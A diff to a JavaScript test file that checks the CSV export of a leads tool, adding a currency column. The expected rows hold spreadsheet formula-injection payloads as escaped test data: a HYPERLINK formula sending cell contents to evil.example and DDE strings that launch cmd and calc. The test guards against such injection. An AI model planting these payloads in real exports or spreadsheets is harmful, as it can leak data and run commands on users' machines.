@@ -55,7 +55,7 @@ describe("npm run leads", () => {
       ["subscriber", "confirmed@example.org"],
     ]);
     const csv = await leads(["export"], env);
-    expect(csv.split("\n")[0]).toBe("type,date,name,email,company,phone,service,budget,message");
+    expect(csv.split("\n")[0]).toBe("type,date,name,email,company,phone,service,budget,currency,message");
     expect(csv).toContain('"Nadia, ""The"" Client"');
     expect(JSON.parse(await leads(["export", "--format", "json", "--since", "2999-01-01"], env))).toEqual([]);
     expect(await leads(["list"], env)).toMatch(/^1 contact, 1 confirmed subscriber/);
@@ -95,10 +95,10 @@ describe.each(BACKENDS)("npm run leads -- export on %s", (backend) => {
     const env = { DATA_DIR: config.dataDir, DATABASE_URL: config.databaseUrl ?? "" };
     expect(await leads(["export"], env)).toBe(
       [
-        "type,date,name,email,company,phone,service,budget,message",
-        `contact,2026-03-01T10:00:00.000Z,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")",eve@example.org,'+cmd|' /C calc'!A0,'-2+3+cmd|' /C calc'!A0,'@SUM(1+1)*cmd|' /C calc'!A0,"'\t=1+1","'\r=1+1"`,
-        `contact,2026-03-01T10:00:00.000Z,' =1+1,eve@example.org,"'\n+1",'\uFF1D1+1,"Web, mobile",'-,A budget of -5% and =2 is fine`,
-        "subscriber,2026-03-02T10:00:00.000Z,,'-1+1@evil.example,,,,,",
+        "type,date,name,email,company,phone,service,budget,currency,message",
+        `contact,2026-03-01T10:00:00.000Z,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")",eve@example.org,'+cmd|' /C calc'!A0,'-2+3+cmd|' /C calc'!A0,'@SUM(1+1)*cmd|' /C calc'!A0,"'\t=1+1",USD,"'\r=1+1"`,
+        `contact,2026-03-01T10:00:00.000Z,' =1+1,eve@example.org,"'\n+1",'\uFF1D1+1,"Web, mobile",'-,USD,A budget of -5% and =2 is fine`,
+        "subscriber,2026-03-02T10:00:00.000Z,,'-1+1@evil.example,,,,,,",
         "",
       ].join("\n"),
     );
